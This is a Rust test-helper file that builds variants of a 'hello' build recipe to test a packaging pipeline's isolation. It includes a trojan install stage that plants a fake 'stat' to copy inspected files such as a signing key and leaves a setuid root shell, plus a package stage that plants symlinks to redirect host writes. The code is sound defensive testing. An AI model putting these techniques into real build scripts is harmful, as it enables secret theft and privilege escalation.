//! Variants of the test recipe in tests/recipes/hello: fast checks of the
//! pipeline's machinery, never the proof of a real Spack build.

use std::path::{Path, PathBuf};

/// tests/recipes/hello.
pub fn hello_recipe() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("recipes/hello")
}

/// A copy of the hello recipe under `root` with `replacements` (path, text) written over it.
pub fn recipe_variant(root: &Path, replacements: &[(&str, &str)]) -> PathBuf {
    let dir = root.join("recipe");
    copy_tree(&hello_recipe(), &dir);
    for (path, text) in replacements {
        std::fs::write(dir.join(path), text).expect("writing a recipe file");
    }
    dir
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("creating a recipe dir");
    for entry in std::fs::read_dir(from).expect("reading the hello recipe") {
        let entry = entry.expect("reading the hello recipe");
        let dest = to.join(entry.file_name());
        if entry.file_type().expect("file type").is_dir() {
            copy_tree(&entry.path(), &dest);
        } else {
            std::fs::copy(entry.path(), dest).expect("copying a recipe file");
        }
    }
}

/// What [`trojan_recipe`]'s build code leaves in the buildcache layer: a
/// sign that it ran, and a copy of each file the planted `stat` is asked about
/// (`stolen-NAME`).
pub const TROJAN_PLANTED: &str = "trojan-planted";

/// The setuid shell [`trojan_recipe`]'s build code leaves in the buildcache
/// layer: host root's, were host root mapped into the instance.
pub const TROJAN_SHELL: &str = "rootshell";

/// The hello recipe whose install stage, like a bad upstream release, plants
/// a `stat` ahead of the real one in its instance that copies every file it
/// is asked about into the buildcache layer, and leaves a setuid shell there.
/// The test recipe's publish.sh asks `stat` about the signing key: only a
/// publish in the same instance is robbed; the shell is host root's only
/// where host root is the instance's.
pub fn trojan_recipe(root: &Path) -> PathBuf {
    let install = std::fs::read_to_string(hello_recipe().join("scripts/install.sh.j2"))
        .expect("reading the hello recipe");
    let trojan = format!(
        r#"{install}
# The attack: every later `stat` in this instance keeps what it looks at.
layer=/opt/slurm-factory/cache/buildcache
cat > /usr/local/bin/stat <<'SH'
#!/bin/sh
for f in "$@"; do
  [ -f "$f" ] && cp "$f" "/opt/slurm-factory/cache/buildcache/stolen-$(basename "$f")"
done
exec /usr/bin/stat "$@"
SH
chmod 0755 /usr/local/bin/stat
# And a root shell for whoever finds it in the mounted dir, as the instance's root.
cp /bin/sh "$layer/{TROJAN_SHELL}"
chmod 4755 "$layer/{TROJAN_SHELL}"
touch "$layer/{TROJAN_PLANTED}"
"#
    );
    recipe_variant(root, &[("scripts/install.sh.j2", &trojan)])
}

/// The hello recipe with an install stage that says it started and then
/// takes five minutes: something to cancel.
pub fn slow_install_recipe(root: &Path) -> PathBuf {
    recipe_variant(
        root,
        &[(
            "scripts/install.sh.j2",
            "#!/usr/bin/env bash\n# Cancel test: an install that takes five minutes.\n\
             echo '::progress 0 1 waiting'\nsleep 300\n",
        )],
    )
}

/// The hello recipe with a package stage that relocates as the built-in one
/// does and then puts bin/hello's RPATH back into the build prefix: the
/// package must fail verification.
pub fn absolute_rpath_recipe(root: &Path) -> PathBuf {
    recipe_variant(
        root,
        &[(
            "scripts/package.sh.j2",
            r#"#!/usr/bin/env bash
# Negative test: relocate as the built-in package.sh does, then undo it for bin/hello.
set -euo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
dest=${!#}
bash "$here/relocate.sh" "$@"
patchelf --set-rpath /opt/slurm-factory/store/greet-1.0/lib "$dest/bin/hello"
"#,
        )],
    )
}

/// The hello recipe with a package stage that relocates as the built-in one
/// does, then, like hostile build code, plants links in the package tree:
/// `etc` to the host directory `victim_dir` (where the host writes the
/// packaged `etc/slurm/*.example` files) and
/// `share/slurm-factory/systemd/slurmd.service` to the host file
/// `victim_file`. The host must write through neither.
pub fn planted_links_recipe(root: &Path, victim_dir: &Path, victim_file: &Path) -> PathBuf {
    let package = format!(
        r#"#!/usr/bin/env bash
# Negative test: relocate as the built-in package.sh does, then plant links.
set -euo pipefail
here=$(cd "$(dirname "${{BASH_SOURCE[0]}}")" && pwd)
dest=${{!#}}
bash "$here/relocate.sh" "$@"
rm -rf "$dest/etc"
ln -s '{dir}' "$dest/etc"
mkdir -p "$dest/share/slurm-factory/systemd"
ln -sf '{file}' "$dest/share/slurm-factory/systemd/slurmd.service"
"#,
        dir = victim_dir.display(),
        file = victim_file.display()
    );
    recipe_variant(root, &[("scripts/package.sh.j2", &package)])
}
